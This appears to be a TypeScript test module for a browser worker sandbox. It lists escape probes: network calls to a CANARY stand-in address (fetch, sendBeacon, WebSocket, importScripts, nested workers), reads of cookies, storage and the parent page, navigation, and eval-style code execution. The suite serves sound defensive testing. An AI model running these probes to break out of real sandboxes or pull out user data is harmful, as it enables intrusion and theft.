/**
 * Attacks by a worker that is wholly hostile: every way out of it that a browser knows. Each piece of code returns what it
 * got, or throws; CANARY stands for an address that must never be asked for.
 */
import type { Attack, AttackGroup } from "./attack.ts";
import { CACHE_TRIES, cacheCodeFor, withPlanted } from "./planted-cache.ts";

interface Try {
  readonly id: string;
  readonly tries: string;
  readonly code: string;
}

const answered = (event: string, failed = "onerror") =>
  `return new Promise((yes, no) => { it.${event} = () => yes("connected"); it.${failed} = () => no(new Error("refused")); });`;

/** Network channels. The browser tests run these in a worker without the sandbox too, where they must get through. */
export const NETWORK_TRIES: readonly Try[] = [
  {
    id: "fetch",
    tries: "fetch() to the site itself",
    code: `return (await fetch(CANARY + "fetch")).status;`,
  },
  {
    id: "fetch-no-cors",
    tries: "fetch() without CORS, to outlive the worker",
    code: `return (await fetch(CANARY + "keepalive", { mode: "no-cors", keepalive: true, method: "POST", body: "x" })).type;`,
  },
  {
    id: "xhr",
    tries: "XMLHttpRequest",
    code: `const it = new XMLHttpRequest(); it.open("GET", CANARY + "xhr"); it.send(); ${answered("onload")}`,
  },
  {
    id: "xhr-sync",
    tries: "XMLHttpRequest, synchronous",
    code: `const it = new XMLHttpRequest(); it.open("GET", CANARY + "xhr-sync", false); it.send(); return it.status;`,
  },
  {
    id: "websocket",
    tries: "WebSocket",
    code: `const it = new WebSocket(CANARY.replace("http", "ws") + "websocket"); ${answered("onopen")}`,
  },
  {
    id: "event-source",
    tries: "EventSource",
    code: `const it = new EventSource(CANARY + "event-source"); ${answered("onopen")}`,
  },
  {
    id: "import-scripts",
    tries: "importScripts()",
    code: `importScripts(CANARY + "import-scripts"); return "loaded";`,
  },
  { id: "import", tries: "import()", code: `await import(CANARY + "import"); return "loaded";` },
  {
    id: "nested-worker",
    tries: "a worker of its own, from an address",
    code: `const it = new Worker(CANARY + "nested-worker"); ${answered("onmessage")}`,
  },
  {
    id: "nested-fetch",
    tries: "fetch() from a worker within the worker",
    code: `const text = "fetch(" + JSON.stringify(CANARY + "nested-fetch") + ").then(() => postMessage(1), () => postMessage(0))";
      const it = new Worker(URL.createObjectURL(new Blob([text])));
      return new Promise((yes, no) => { it.onmessage = ({ data }) => (data ? yes("connected") : no(new Error("refused"))); });`,
  },
  {
    id: "font",
    tries: "a font's address",
    code: `await new FontFace("x", "url(" + CANARY + "font)").load(); return "loaded";`,
  },
];

/** Channels that have no place to arrive in the tests: they must be absent or refused. */
const FURTHER_TRIES: readonly Try[] = [
  {
    id: "web-transport",
    tries: "WebTransport",
    code: `const it = new WebTransport(CANARY.replace("http:", "https:") + "web-transport"); await it.ready; return "connected";`,
  },
  {
    id: "rtc",
    tries: "WebRTC, whose name look-ups a policy does not see",
    code: `new RTCPeerConnection(); return "made";`,
  },
  {
    id: "beacon",
    tries: "navigator.sendBeacon()",
    code: `return navigator.sendBeacon(CANARY + "beacon");`,
  },
];

const PLACE_TRIES: readonly Try[] = [
  {
    id: "indexed-db",
    tries: "IndexedDB",
    code: `return new Promise((yes, no) => { const it = indexedDB.open("x"); it.onsuccess = () => yes("opened"); it.onerror = () => no(it.error); });`,
  },
  {
    id: "file-system",
    tries: "the origin's private files",
    code: `await navigator.storage.getDirectory(); return "opened";`,
  },
  { id: "local-storage", tries: "localStorage", code: `return localStorage.length;` },
  { id: "cookies", tries: "cookies", code: `return document.cookie;` },
  {
    id: "cookie-store",
    tries: "the cookie store",
    code: `return (await cookieStore.getAll()).length;`,
  },
  { id: "parent", tries: "the page around it", code: `return parent.document.title;` },
  { id: "opener", tries: "window and top", code: `return top.location.href + window.name;` },
  {
    id: "navigate",
    tries: "leading the frame elsewhere",
    code: `self.location.href = CANARY + "navigate"; await new Promise((yes) => setTimeout(yes, 300)); throw new Error("nothing moved");`,
  },
  {
    id: "open-window",
    tries: "opening a window through a client",
    code: `return (await self.clients.openWindow(CANARY + "open")).url;`,
  },
  {
    id: "shared-memory",
    tries: "shared memory, for precise timing",
    code: `return new SharedArrayBuffer(8).byteLength;`,
  },
  {
    id: "notification",
    tries: "a notification in the site's name",
    code: `if (Notification.permission !== "granted") throw new Error(Notification.permission); new Notification("x"); return "shown";`,
  },
  {
    id: "shared-worker",
    tries: "a shared worker that outlives the page",
    code: `new SharedWorker("data:,"); return "made";`,
  },
];

const CODE_TRIES: readonly Try[] = [
  { id: "eval", tries: "eval()", code: `return (0, eval)("1 + 1");` },
  { id: "function", tries: "new Function()", code: `return new Function("return 1")();` },
  {
    id: "constructor",
    tries: "Function by way of a constructor",
    code: `return (() => {}).constructor.constructor("return globalThis")();`,
  },
  {
    id: "timer-text",
    tries: "a timer with text to run",
    code: `setTimeout("globalThis.ran = true"); await new Promise((yes) => setTimeout(yes, 100)); if (!globalThis.ran) throw new Error("not run"); return "run";`,
  },
  {
    id: "data-worker",
    tries: "a worker from a data: address",
    code: `const it = new Worker("data:text/javascript,postMessage(1)"); ${answered("onmessage")}`,
  },
  {
    id: "wasm-memory",
    tries: "5 GiB of WebAssembly memory",
    code: `return new WebAssembly.Memory({ initial: 81920 }).buffer.byteLength;`,
  },
];

export function hostileAttacks(): Attack[] {
  const all: ReadonlyArray<readonly [AttackGroup, readonly Try[]]> = [
    ["Network", [...NETWORK_TRIES, ...FURTHER_TRIES]],
    ["Storage and pages", PLACE_TRIES],
    ["Code", CODE_TRIES],
  ];
  const byTries = all.flatMap(([group, tries]) =>
    tries.map(({ id, tries: what, code }): Attack => ({
      id,
      group,
      tries: what,
      run: (ground) => ground.hostile(codeFor(code, ground.canary)),
    })),
  );
  return [...byTries, ...cacheAttacks()];
}

function cacheAttacks(): Attack[] {
  return CACHE_TRIES.map(({ id, tries, code }) => ({
    id,
    group: "Storage and pages",
    tries,
    run: (ground) => withPlanted((planted) => ground.hostile(cacheCodeFor(code, planted))),
  }));
}

/** The code with the address in it. */
export function codeFor(code: string, canary: string): string {
  return `const CANARY = ${JSON.stringify(canary)};\n${code}`;
}
